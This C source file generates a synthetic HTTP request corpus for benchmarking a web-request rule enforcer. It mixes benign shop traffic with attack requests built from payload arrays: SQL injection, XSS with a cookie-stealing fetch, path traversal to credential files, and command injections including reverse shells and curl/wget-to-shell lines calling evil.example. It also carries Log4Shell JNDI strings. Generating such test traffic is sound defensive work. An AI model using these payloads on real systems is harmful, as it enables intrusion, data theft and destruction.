// SPDX-License-Identifier: GPL-2.0-or-later
/* The request corpus of bench/rules (corpus.h). */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "bench.h"
#include "corpus.h"
#include "enforcer/http/http1.h"

#define REQ_MAX BENCH_TEXT_MAX
#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))

static const char *const kind_names[RK_KINDS] = {
	[RK_PAGE] = "page",
	[RK_STATIC] = "static",
	[RK_API_GET] = "api_get",
	[RK_FORM] = "form",
	[RK_JSON] = "json",
	[RK_MULTIPART] = "multipart",
	[RK_SQLI] = "sqli",
	[RK_XSS] = "xss",
	[RK_LFI] = "lfi",
	[RK_RCE] = "rce",
	[RK_LOG4SHELL] = "log4shell",
	[RK_SCANNER] = "scanner",
};

const char *rq_kind_name(enum rq_kind k)
{
	return k < RK_KINDS ? kind_names[k] : "?";
}

/* ---- what the templates are made of ---------------------------------- */

static const char *const user_agents[] = {
	"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
	"(KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 "
	"(KHTML, like Gecko) Version/17.5 Safari/605.1.15",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) "
	"AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 "
	"Safari/604.1",
	"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, "
	"like Gecko) Chrome/126.0.6478.122 Mobile Safari/537.36",
};

static const char *const pages[] = {
	"/",
	"/search",
	"/products/shoes/running",
	"/products/outdoor/tents",
	"/blog/2026/11/choosing-a-sleeping-bag",
	"/account/orders",
	"/cart",
	"/help/shipping-and-returns",
	"/stores/near-me",
	"/c/kitchen/knives",
};

static const char *const assets[] = {
	"/static/css/main.3f9a1c.css",
	"/static/js/app.9b2e77.js",
	"/static/js/vendor.51d0e2.js",
	"/images/logo.svg",
	"/images/products/12345-400w.webp",
	"/fonts/inter-var.woff2",
	"/favicon.ico",
	"/manifest.webmanifest",
};

/* Search terms and comments, some of them near-misses of attack patterns:
 * SQL words in prose, quotes, dashes, punctuation a shell would read. */
static const char *const searches[] = {
	"running shoes",	  "waterproof jacket men's",
	"union jack flag",	  "select comfort pillow",
	"drop-down table lamp",	  "rock & roll t-shirt",
	"o'neill wetsuit",	  "4-person tent",
	"cat tree 1.5m",	  "script writing notebook",
	"usb-c cable 2m",	  "100% cotton bed sheets",
	"where is my order",	  "gift card",
	"delete my account",	  "c:\\ drive replacement",
	"1=1 scale model train",  "sleep mask",
	"benchmark bike trainer", "java coffee beans",
};

static const char *const comments[] = {
	"Great shoes, I'd buy them again. Fit is true to size!",
	"Can't wait -- ordered 2 more for my kids; they love them :)",
	"The union of style and comfort. Select the half size up if between "
	"sizes.",
	"Dropped it once from the table, still works fine. 5/5",
	"Works on Windows 10 and Ubuntu 22.04 (tested with /dev/ttyUSB0).",
	"Shipping took 3 days & the box was damaged, but the product is OK.",
	"My cat (Tom) sleeps in it all day; <3 would recommend",
	"Does anyone know if it fits a 15\" laptop? Thanks in advance.",
	"Ordered on 2026-11-02, arrived 2026-11-05. Email: ann@example.com",
	"Colour is more blue than in the photo; still nice. Rating: 4 of 5",
	"Too small for me -- returned it; refund came within a week.",
	"Instructions say: insert tab A into slot B; then tighten (don't "
	"over-tighten) the screws.",
};

static const char *const names[] = {
	"Ann Example", "Bob O'Brien", "Chloé Dupont", "Dmitri Ivanov",
	"Eve Smith",   "Fatima Khan", "Gao Wei",      "Hannah Müller",
};

static const char *const cities[] = {
	"Springfield", "Portland", "Lyon", "Zürich", "Osaka", "Leeds",
};

/* Attacks, as the attacker means them (encoded where they are placed). */
static const char *const sqli[] = {
	"1' UNION SELECT username,password FROM users-- -",
	"1 union all select null,null,version()",
	"' or '1'='1",
	"admin' or 1=1-- -",
	"1; DROP TABLE users",
	"1' AND SLEEP(5)-- ",
	"1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)",
	"1'; waitfor delay '0:0:5'--",
	"-1' union/**/select/**/1,2,group_concat(table_name) from "
	"information_schema.tables-- -",
	"1 and extractvalue(1,concat(0x7e,(select user()),0x7e))",
	"1' or benchmark(5000000,md5(1))#",
	"x' UNION SELECT load_file('/etc/passwd'),2-- -",
};

static const char *const xss[] = {
	"<script>alert(1)</script>",
	"<img src=x onerror=alert(document.cookie)>",
	"<svg/onload=alert(1)>",
	"javascript:alert(document.domain)",
	"\"><iframe src=javascript:alert(1)>",
	"<body onload=alert('x')>",
	"<a href=\"javascript:fetch('//evil.example/'+document.cookie)\">x</a>",
	"<details open ontoggle=prompt(1)>",
	"'-alert(String.fromCharCode(88,83,83))-'",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
};

static const char *const lfi[] = {
	"../../../../etc/passwd",
	"..%2f..%2f..%2f..%2fetc%2fpasswd",
	"/proc/self/environ",
	"....//....//....//etc/shadow",
	"..\\..\\..\\windows\\win.ini",
	"php://filter/convert.base64-encode/resource=index.php",
	"file:///etc/passwd",
	"../../../../../../var/log/apache2/access.log",
	"/var/www/html/.env",
	"../../../../root/.ssh/id_rsa",
};

static const char *const rce[] = {
	"127.0.0.1; cat /etc/passwd",
	"x | nc -e /bin/sh 10.0.0.1 4444",
	"$(id)",
	"`whoami`",
	"a; wget http://evil.example/x.sh -O- | sh",
	"1 && curl http://evil.example/a | bash",
	"; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
	"|| ping -c 3 10.0.0.1",
	"$(curl -s http://evil.example/p)",
	"; python3 -c 'import os;os.system(\"id\")'",
	"x; rm -rf /tmp/*; echo done",
};

static const char *const log4shell[] = {
	"${jndi:ldap://evil.example/a}",
	"${${lower:j}ndi:ldap://evil.example/a}",
	"${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/x}",
	"${jndi:dns://evil.example/q}",
	"${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example/z}",
};

static const char *const scanners[] = {
	"sqlmap/1.7.2#stable (https://sqlmap.org)",
	"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
	"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
	"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
	"gobuster/3.6",
	"Mozilla/5.0 (compatible; Nmap Scripting Engine; "
	"https://nmap.org/book/nse.html)",
	"WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
	"DirBuster-1.0-RC1 (http://www.owasp.org/index.php/"
	"Category:OWASP_DirBuster_Project)",
};

/* ---- output ----------------------------------------------------------- */

#define PICK(arr, r) ((arr)[(r) % ARRAY_SIZE(arr)])

/* @s percent-encoded as a browser encodes a form value (space as '+'). */
static const char *enc(char *dst, size_t cap, const char *s)
{
	static const char hex[] = "0123456789ABCDEF";
	size_t o = 0;

	for (; *s && o + 4 < cap; s++) {
		unsigned char c = (unsigned char)*s;

		if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
		    (c >= '0' && c <= '9') || c == '-' || c == '.' ||
		    c == '_' || c == '~') {
			dst[o++] = (char)c;
		} else if (c == ' ') {
			dst[o++] = '+';
		} else {
			dst[o++] = '%';
			dst[o++] = hex[c >> 4];
			dst[o++] = hex[c & 15];
		}
	}
	dst[o] = '\0';
	return dst;
}

/* @s as the inside of a JSON string. */
static const char *jesc(char *dst, size_t cap, const char *s)
{
	size_t o = 0;

	for (; *s && o + 3 < cap; s++) {
		if (*s == '"' || *s == '\\')
			dst[o++] = '\\';
		dst[o++] = *s;
	}
	dst[o] = '\0';
	return dst;
}

/* ---- requests --------------------------------------------------------- */

/* Where an attack's payload goes. */
enum place {
	PL_QUERY,
	PL_FORM,
	PL_JSON,
	PL_COOKIE,
	PL_HEADER,
	PL_PLACES,
};

/* What one request carries: the parts a template fills. */
struct parts {
	const char *ua;
	char cookie_extra[1024]; /* "; name=value" or "" */
	char header_extra[1024]; /* "Name: value\r\n" or "" */
};

static void browser_headers(struct bench_text *o, uint32_t r,
			    const struct parts *p, const char *host)
{
	bench_put(
		o,
		"Host: %s\r\n"
		"User-Agent: %s\r\n"
		"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,"
		"image/avif,image/webp,*/*;q=0.8\r\n"
		"Accept-Language: en-US,en;q=0.7,de;q=0.3\r\n"
		"Accept-Encoding: gzip, deflate, br, zstd\r\n"
		"Referer: https://%s/products?page=%u&sort=popular\r\n"
		"Connection: keep-alive\r\n"
		"Cookie: sid=%08x%08x; cart=%u; theme=%s; lang=en-US; "
		"_ga=GA1.2.%u.%u; consent=analytics%%3Dyes%%2Cads%%3Dno%s\r\n"
		"Upgrade-Insecure-Requests: 1\r\n"
		"Sec-Fetch-Dest: document\r\n"
		"Sec-Fetch-Mode: navigate\r\n"
		"Sec-Fetch-Site: same-origin\r\n"
		"%s",
		host, p->ua, host, r % 40, r, r * 2654435761u, r % 7,
		r & 4 ? "dark" : "light", r, r / 3, p->cookie_extra,
		p->header_extra);
}

/* A form body; @payload, when set, is the value of one field. */
static int form_body(char *b, size_t cap, uint32_t r, const char *payload)
{
	char e1[2048], e2[2048];

	switch (r % 3) {
	case 0:
		return snprintf(
			b, cap,
			"username=%s&password=p%%40ss%%21%u&remember=on"
			"&next=%%2Faccount%%2Forders&csrf_token=%08x%08x",
			payload ? enc(e1, sizeof(e1), payload) :
				  enc(e1, sizeof(e1), "ann.example"),
			r, r * 31, r * 17);
	case 1:
		return snprintf(b, cap,
				"name=%s&email=%s&rating=%u&comment=%s"
				"&product_id=%u&csrf_token=%08x",
				enc(e1, sizeof(e1), PICK(names, r)),
				"ann%40example.com", 1 + r % 5,
				enc(e2, sizeof(e2),
				    payload ? payload : PICK(comments, r / 3)),
				r % 100000, r * 13);
	default:
		return snprintf(b, cap,
				"q=%s&category=%s&price_min=%u&price_max=%u"
				"&in_stock=1",
				enc(e1, sizeof(e1),
				    payload ? payload : PICK(searches, r / 5)),
				r & 1 ? "outdoor" : "home", r % 50,
				50 + r % 500);
	}
}

/* A JSON body; @payload, when set, is one string of it. */
static int json_body(char *b, size_t cap, uint32_t r, const char *payload)
{
	char e1[2048], e2[2048];

	if (r & 1)
		return snprintf(
			b, cap,
			"{\"order\":{\"id\":%u,\"items\":[{\"sku\":\"SKU-%05u\","
			"\"qty\":%u,\"price\":%u.99},{\"sku\":\"SKU-%05u\","
			"\"qty\":1,\"price\":5.5}],\"address\":{\"name\":"
			"\"%s\",\"street\":\"%u Main St\",\"city\":\"%s\"},"
			"\"gift\":%s,\"note\":\"%s\"}}",
			r, r % 99999, 1 + r % 5, r % 200, (r / 7) % 99999,
			jesc(e1, sizeof(e1), PICK(names, r / 11)), 1 + r % 300,
			PICK(cities, r / 13), r & 2 ? "true" : "false",
			jesc(e2, sizeof(e2),
			     payload ? payload : "leave at the back door"));
	return snprintf(b, cap,
			"{\"user\":{\"id\":%u,\"display_name\":\"%s\","
			"\"bio\":\"%s\",\"prefs\":{\"newsletter\":%s,"
			"\"language\":\"en\",\"tags\":[\"hiking\",\"coffee\","
			"\"photography\"]}},\"version\":%u}",
			r % 1000000, jesc(e1, sizeof(e1), PICK(names, r / 5)),
			jesc(e2, sizeof(e2),
			     payload ? payload : PICK(comments, r / 7)),
			r & 4 ? "true" : "false", 1 + r % 9);
}

static void post(struct bench_text *o, const char *path, const char *ctype,
		 const char *body, int bl, uint32_t r, const struct parts *p)
{
	bench_put(o, "POST %s HTTP/1.1\r\n", path);
	browser_headers(o, r, p, "www.shop.example");
	bench_put(o,
		  "Origin: https://www.shop.example\r\n"
		  "Content-Type: %s\r\n"
		  "Content-Length: %d\r\n\r\n%s",
		  ctype, bl, body);
}

static void make_multipart(struct bench_text *o, uint32_t r,
			   const struct parts *p)
{
	char file[1200], b[4096];
	size_t i;
	int bl;

	for (i = 0; i < sizeof(file) - 1; i++)
		file[i] = (char)(i % 64 == 63 ? '\n' : 'a' + (r + i) % 26);
	file[sizeof(file) - 1] = '\0';
	bl = snprintf(b, sizeof(b),
		      "------geckoformboundary%08x\r\n"
		      "Content-Disposition: form-data; name=\"title\"\r\n\r\n"
		      "report %u\r\n"
		      "------geckoformboundary%08x\r\n"
		      "Content-Disposition: form-data; name=\"file\"; "
		      "filename=\"notes-%u.txt\"\r\n"
		      "Content-Type: text/plain\r\n\r\n%s\r\n"
		      "------geckoformboundary%08x--\r\n",
		      r, r, r, r, file, r);
	bench_put(o, "POST /upload HTTP/1.1\r\n");
	browser_headers(o, r, p, "www.shop.example");
	bench_put(o,
		  "Content-Type: multipart/form-data; "
		  "boundary=----geckoformboundary%08x\r\n"
		  "Content-Length: %d\r\n\r\n%s",
		  r, bl, b);
}

/* A benign request of kind @k. */
static void make_benign(struct bench_text *o, enum rq_kind k, uint32_t r,
			const struct parts *p)
{
	char b[4096], e[1024];
	int bl;

	switch (k) {
	case RK_PAGE:
		bench_put(
			o,
			"GET %s?q=%s&page=%u&sort=price_asc&utm_source=newsletter"
			"&utm_medium=email&utm_campaign=autumn-sale-%u HTTP/1.1\r\n",
			PICK(pages, r),
			enc(e, sizeof(e), PICK(searches, r / 7)), 1 + r % 9,
			r % 12);
		browser_headers(o, r, p, "www.shop.example");
		bench_put(o, "\r\n");
		return;
	case RK_STATIC:
		bench_put(o, "GET %s HTTP/1.1\r\n", PICK(assets, r));
		browser_headers(o, r, p, "cdn.shop.example");
		bench_put(o, "\r\n");
		return;
	case RK_API_GET:
		bench_put(
			o,
			"GET /api/v2/items?filter=status%%3Dopen&fields=id%%2Cname"
			"%%2Cprice&sort=-created&limit=%u&offset=%u HTTP/1.1\r\n"
			"Host: api.shop.example\r\n"
			"User-Agent: %s\r\n"
			"Accept: application/json\r\n"
			"Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIl"
			"%08x.%08x\r\n"
			"X-Request-Id: %08x-%04x\r\n"
			"Origin: https://www.shop.example\r\n"
			"Connection: keep-alive\r\n%s\r\n",
			20 + r % 80, r % 500, p->ua, r, r * 7, r * 3,
			r & 0xffff, p->header_extra);
		return;
	case RK_FORM:
		bl = form_body(b, sizeof(b), r, NULL);
		post(o,
		     r % 3 == 0 ? "/login" :
		     r % 3 == 1 ? "/reviews" :
				  "/search",
		     "application/x-www-form-urlencoded", b, bl, r, p);
		return;
	case RK_JSON:
		bl = json_body(b, sizeof(b), r, NULL);
		post(o, r & 1 ? "/api/v2/orders" : "/api/v2/profile",
		     "application/json", b, bl, r, p);
		return;
	case RK_MULTIPART:
	default:
		make_multipart(o, r, p);
		return;
	}
}

/* An attack of kind @k: its payload, placed where @r says. */
static void make_attack(struct bench_text *o, enum rq_kind k, uint32_t r,
			struct parts *p)
{
	const char *payload;
	char b[4096], e[2048];
	enum place pl = (enum place)((r >> 8) % PL_PLACES);
	int bl;

	switch (k) {
	case RK_SQLI:
		payload = PICK(sqli, r);
		break;
	case RK_XSS:
		payload = PICK(xss, r);
		break;
	case RK_LFI:
		payload = PICK(lfi, r);
		break;
	case RK_RCE:
		payload = PICK(rce, r);
		break;
	case RK_LOG4SHELL:
		payload = PICK(log4shell, r);
		/* where Log4Shell was sprayed: headers that get logged */
		if (pl == PL_COOKIE)
			pl = PL_HEADER;
		break;
	case RK_SCANNER:
	default:
		/* a scanner's probe: its own User-Agent on an ordinary GET */
		p->ua = PICK(scanners, r);
		make_benign(o, r & 1 ? RK_PAGE : RK_STATIC, r, p);
		return;
	}
	switch (pl) {
	case PL_QUERY:
		bench_put(o, "GET %s?q=%s&page=%u HTTP/1.1\r\n", PICK(pages, r),
			  enc(e, sizeof(e), payload), 1 + r % 9);
		browser_headers(o, r, p, "www.shop.example");
		bench_put(o, "\r\n");
		return;
	case PL_FORM:
		bl = form_body(b, sizeof(b), r, payload);
		post(o,
		     r % 3 == 0 ? "/login" :
		     r % 3 == 1 ? "/reviews" :
				  "/search",
		     "application/x-www-form-urlencoded", b, bl, r, p);
		return;
	case PL_JSON:
		bl = json_body(b, sizeof(b), r, payload);
		post(o, r & 1 ? "/api/v2/orders" : "/api/v2/profile",
		     "application/json", b, bl, r, p);
		return;
	case PL_COOKIE:
		snprintf(p->cookie_extra, sizeof(p->cookie_extra),
			 "; last_search=%s", enc(e, sizeof(e), payload));
		make_benign(o, RK_PAGE, r, p);
		return;
	case PL_HEADER:
	default:
		if (k == RK_LOG4SHELL && (r & 1))
			p->ua = payload;
		else
			snprintf(p->header_extra, sizeof(p->header_extra),
				 "%s: %s\r\n",
				 r & 2 ? "X-Forwarded-For" : "X-Api-Version",
				 payload);
		make_benign(o, r & 4 ? RK_API_GET : RK_PAGE, r, p);
		return;
	}
}

/* The benign mix by count, out of 100, in enum rq_kind order. */
static const unsigned int benign_mix[RK_FIRST_ATTACK] = { 45, 15, 15, 12, 9, 4 };

static enum rq_kind pick_kind(uint32_t r, unsigned int attack_pct)
{
	unsigned int v;

	if ((r >> 4) % 100 < attack_pct)
		return RK_FIRST_ATTACK + (r % (RK_KINDS - RK_FIRST_ATTACK));
	v = (r >> 12) % 100;
	for (unsigned int k = 0; k < RK_FIRST_ATTACK - 1; k++) {
		if (v < benign_mix[k])
			return k;
		v -= benign_mix[k];
	}
	return RK_FIRST_ATTACK - 1;
}

/* ---- parsing and keeping --------------------------------------------- */

static size_t fields_bytes(const struct enf_field *f, size_t n)
{
	size_t b = n * sizeof(*f);

	for (size_t i = 0; i < n; i++)
		b += f[i].name.len + f[i].value.len + 2;
	return b;
}

struct arena {
	char *p;
	size_t off;
};

static struct enf_str keep_str(struct arena *a, struct enf_str s)
{
	struct enf_str k = { a->p + a->off, s.len };

	if (!s.ptr)
		return (struct enf_str){ NULL, 0 };
	memcpy(a->p + a->off, s.ptr, s.len);
	a->off += s.len;
	a->p[a->off++] = '\0';
	return k;
}

static const struct enf_field *keep_fields(struct arena *a,
					   const struct enf_field *f, size_t n)
{
	struct enf_field *k = (struct enf_field *)(a->p + a->off);

	if (!n)
		return NULL;
	a->off += n * sizeof(*k);
	for (size_t i = 0; i < n; i++) {
		k[i].name = keep_str(a, f[i].name);
		k[i].value = keep_str(a, f[i].value);
	}
	return k;
}

/* @req copied into one allocation, as @q->req. */
static int keep_request(struct rq *q, const struct enf_request *req)
{
	const struct enf_str *strs[] = {
		&req->method,	    &req->uri,	&req->path, &req->query,
		&req->protocol,	    &req->line, &req->body, &req->uri_decoded,
		&req->path_decoded, &req->host,
	};
	struct enf_request *k = &q->req;
	struct arena a = { 0 };
	size_t size = 0;

	/* the field arrays first: they want the allocation's alignment */
	size += fields_bytes(req->headers, req->n_headers);
	size += fields_bytes(req->args, req->n_args);
	size += fields_bytes(req->args_post, req->n_args_post);
	size += fields_bytes(req->cookies, req->n_cookies);
	size += 3 * 8; /* the padding between field arrays */
	for (size_t i = 0; i < ARRAY_SIZE(strs); i++)
		size += strs[i]->len + 1;
	a.p = malloc(size ? size : 1);
	if (!a.p)
		return -ENOMEM;
	*k = *req;
	k->origin = NULL;
	/* keep every array 8-aligned: fields go first, in whole structs,
	 * and strings of a field array follow its structs */
	k->headers = keep_fields(&a, req->headers, req->n_headers);
	a.off = (a.off + 7) & ~(size_t)7;
	k->args = keep_fields(&a, req->args, req->n_args);
	a.off = (a.off + 7) & ~(size_t)7;
	k->args_post = keep_fields(&a, req->args_post, req->n_args_post);
	a.off = (a.off + 7) & ~(size_t)7;
	k->cookies = keep_fields(&a, req->cookies, req->n_cookies);
	k->method = keep_str(&a, req->method);
	k->uri = keep_str(&a, req->uri);
	k->path = keep_str(&a, req->path);
	k->query = keep_str(&a, req->query);
	k->protocol = keep_str(&a, req->protocol);
	k->line = keep_str(&a, req->line);
	k->body = keep_str(&a, req->body);
	k->uri_decoded = keep_str(&a, req->uri_decoded);
	k->path_decoded = keep_str(&a, req->path_decoded);
	k->host = keep_str(&a, req->host);
	q->mem = a.p;
	return 0;
}

/* What the parser's callback fills: the corpus and the requests made. */
struct feed {
	struct rcorpus *c;
	size_t cap;
	const size_t *wire; /* bytes of each request made, in order */
	const uint8_t *kind;
	size_t n_made;
	size_t first; /* index in @wire of the corpus's next request */
	int err;
};

static int on_request(const struct enf_request *req, void *ctx)
{
	struct feed *f = ctx;
	struct rcorpus *c = f->c;
	struct rq *q;
	int err;

	if (c->n - f->first >= f->n_made) {
		f->err = -EPROTO;
		return f->err;
	}
	q = &c->r[c->n];
	q->kind = f->kind[c->n - f->first];
	q->wire = f->wire[c->n - f->first];
	err = keep_request(q, req);
	if (err) {
		f->err = err;
		return err;
	}
	c->n++;
	c->n_kind[q->kind]++;
	c->wire_bytes += q->wire;
	c->body_bytes += req->body.len;
	c->n_values += 2 * (req->n_headers + req->n_args + req->n_args_post +
			    req->n_cookies) +
		       7;
	c->anomalies += req->anomalies != 0;
	return 0;
}

static int grow(struct rcorpus *c, size_t more)
{
	struct rq *nr = realloc(c->r, (c->n + more) * sizeof(*nr));

	if (!nr)
		return -ENOMEM;
	memset(nr + c->n, 0, more * sizeof(*nr));
	c->r = nr;
	return 0;
}

/* Parse @len bytes of @n requests, as one keep-alive stream. */
static int parse_stream(struct rcorpus *c, const char *bytes, size_t len,
			const size_t *wire, const uint8_t *kind, size_t n)
{
	struct feed f = { .c = c, .wire = wire, .kind = kind, .n_made = n };
	struct enf_http1 *p = NULL;
	int err;

	err = grow(c, n);
	if (err)
		return err;
	f.first = c->n;
	err = enf_http1_new(NULL, &p);
	if (err)
		return err;
	err = enf_http1_feed(p, bytes, len, on_request, &f);
	/* a line end after the last request: a part of a request left over
	 * (a short body) then ends a line that is no request, and counts as
	 * skipped */
	if (!err)
		err = enf_http1_feed(p, "\r\n", 2, on_request, &f);
	if (!err && f.err)
		err = f.err;
	if (!err && (c->n - f.first != n || enf_http1_skipped(p)))
		err = -EPROTO;
	enf_http1_free(p);
	return err;
}

int rcorpus_add_raw(struct rcorpus *c, const char *raw, size_t len,
		    enum rq_kind kind)
{
	uint8_t k = (uint8_t)kind;

	return parse_stream(c, raw, len, &len, &k, 1);
}

int rcorpus_make(struct rcorpus *c, size_t n, uint64_t seed,
		 unsigned int attack_pct, const char **err)
{
	struct bench_text *o = NULL;
	char *stream = NULL;
	size_t *wire = NULL, len = 0, cap;
	uint8_t *kind = NULL;
	int rc = -ENOMEM;

	memset(c, 0, sizeof(*c));
	*err = NULL;
	if (n < 1 || n > 1000000 || attack_pct > 100) {
		*err = "bad corpus size or attack share";
		return -EINVAL;
	}
	cap = n * 2048;
	o = malloc(sizeof(*o));
	stream = malloc(cap);
	wire = calloc(n, sizeof(*wire));
	kind = calloc(n, sizeof(*kind));
	if (!o || !stream || !wire || !kind) {
		*err = "no memory";
		goto out_free;
	}
	for (size_t i = 0; i < n; i++) {
		uint32_t r = bench_rand(&seed);
		enum rq_kind k = pick_kind(r, attack_pct);
		struct parts p = { 0 };

		r = bench_rand(&seed);
		p.ua = PICK(user_agents, r >> 3);
		o->len = 0;
		if (rq_kind_is_attack(k))
			make_attack(o, k, r, &p);
		else
			make_benign(o, k, r, &p);
		if (len + o->len > cap) {
			char *ns;

			cap = 2 * (len + o->len);
			ns = realloc(stream, cap);
			if (!ns) {
				*err = "no memory";
				goto out_free;
			}
			stream = ns;
		}
		memcpy(stream + len, o->buf, o->len);
		len += o->len;
		wire[i] = o->len;
		kind[i] = (uint8_t)k;
	}
	rc = parse_stream(c, stream, len, wire, kind, n);
	if (rc == -EPROTO)
		*err = "the HTTP/1 parser did not hand out the requests made";
	else if (rc)
		*err = "parsing the corpus failed";
out_free:
	free(o);
	free(stream);
	free(wire);
	free(kind);
	if (rc)
		rcorpus_free(c);
	return rc;
}

void rcorpus_free(struct rcorpus *c)
{
	if (!c)
		return;
	for (size_t i = 0; i < c->n; i++)
		free(c->r[i].mem);
	free(c->r);
	memset(c, 0, sizeof(*c));
}
